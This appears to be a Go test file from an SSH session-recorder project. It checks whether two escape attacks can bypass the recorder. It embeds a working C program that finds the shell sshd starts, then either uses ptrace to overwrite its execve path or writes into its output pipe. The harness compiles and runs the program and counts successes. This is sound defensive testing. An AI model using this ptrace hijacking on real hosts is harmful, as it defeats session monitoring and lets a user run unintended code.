// SPDX-License-Identifier: AGPL-3.0-or-later

package attacks

import (
	"os"
	"strings"
	"syscall"

	"castgate/packaging/hosttest"
)

// taker is a process of the account's, of an earlier session or cron's, that
// waits for the shell which sshd starts before it is the recorder. With "trace"
// it makes another program of it, with "pipe" it talks through its pipes.
const taker = `
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *wanted; /* what the shell is told to run */
static char instead[PATH_MAX];

static int is_the_shell(int pid) {
	char name[64], line[4096] = {0};
	snprintf(name, sizeof name, "/proc/%d/cmdline", pid);
	int fd = open(name, O_RDONLY);
	if (fd < 0) return 0;
	int n = read(fd, line, sizeof line - 1);
	close(fd);
	return n > 0 && memmem(line, n, "bash\0-c", 7) && memmem(line, n, wanted, strlen(wanted));
}

/* trace writes another path over the one that the shell is about to run. */
static int trace(int pid) {
	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD)) return 0;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	for (int status; waitpid(pid, &status, 0) == pid && WIFSTOPPED(status); ptrace(PTRACE_SYSCALL, pid, 0, 0)) {
		struct __ptrace_syscall_info info = {0};
		if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof info, &info) <= 0) continue;
		if (info.op != PTRACE_SYSCALL_INFO_ENTRY || info.entry.nr != SYS_execve) continue;
		for (unsigned i = 0; i <= strlen(instead); i += sizeof(long))
			ptrace(PTRACE_POKEDATA, pid, info.entry.args[0] + i, *(long *)(instead + i));
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return 1;
	}
	return 0;
}

/* talk writes to the client through the shell's own standard output. */
static int talk(int pid) {
	char name[64], to[64] = {0};
	snprintf(name, sizeof name, "/proc/%d/fd/1", pid);
	if (readlink(name, to, sizeof to - 1) < 0 || (strncmp(to, "pipe:", 5) && strncmp(to, "socket:", 7))) return 0;
	int fd = open(name, O_WRONLY);
	return fd >= 0 && write(fd, "ESCAPED\n", 8) == 8;
}

int main(int argc, char **argv) {
	strncpy(instead, argv[2], sizeof instead - 1);
	wanted = argv[3];
	int (*take)(int) = strcmp(argv[1], "pipe") ? trace : talk;
	puts("watching");
	fflush(stdout);
	for (;;) { /* the newest processes only: 64 of them */
		char line[128] = {0};
		int fd = open("/proc/loadavg", O_RDONLY), n = read(fd, line, sizeof line - 1);
		close(fd);
		int last = n > 0 ? atoi(strrchr(line, ' ')) : 0;
		for (int pid = last; pid > last - 64 && pid > 1; pid--)
			if (is_the_shell(pid) && take(pid)) return 0;
	}
}
`

// takeShell logs in until the process that waits has had its way, five times at most.
func takeShell(how string, done func(w *world, r hosttest.Result) bool) func(w *world) verdict {
	return func(w *world) verdict {
		w.user.Write(w, "taker.c", taker)
		w.user.Write(w, "e", "#!/bin/sh\ntouch "+w.user.Home+"/escaped\necho ESCAPED\n")
		hosttest.Run(w, "sh", "-c", "cd "+w.user.Home+" && chmod 755 e && cc -O2 -w -o taker taker.c")
		wanted := "/usr/bin/castgate-wrap"
		if !w.door.castgate {
			wanted = naivePath
		}
		got := closed
		for range 5 {
			_ = os.Remove(w.user.Home + "/escaped")
			x := hosttest.StartTerminal(w, w.user.Command("./taker", how, w.user.Home+"/e", wanted), 80, 24)
			x.Expect("watching")
			r := w.ssh([]string{"-T"}, "sleep 0.2")
			x.Signal(syscall.SIGKILL)
			x.Wait()
			if got = w.judge(done(w, r), "ESCAPED"); got == works {
				return got
			}
		}
		return got
	}
}

const byShell = "castgate-wrap as the login shell"

// takingTheShell needs a moment in which the account's own shell runs before
// the recorder: behind ForceCommand alone, as for accounts of a directory.
var takingTheShell = []attack{
	{
		id: "104", what: "a process of the account's traces the shell that becomes the recorder", by: byShell, naive: works, forced: works,
		try: takeShell("trace", func(w *world, _ hosttest.Result) bool { return w.exists("escaped") }),
	},
	{
		id: "105", what: "a process of the account's opens that shell's pipes", by: byShell, naive: works, forced: works,
		try: takeShell("pipe", func(_ *world, r hosttest.Result) bool { return strings.Contains(r.Stdout, "ESCAPED") }),
	},
}
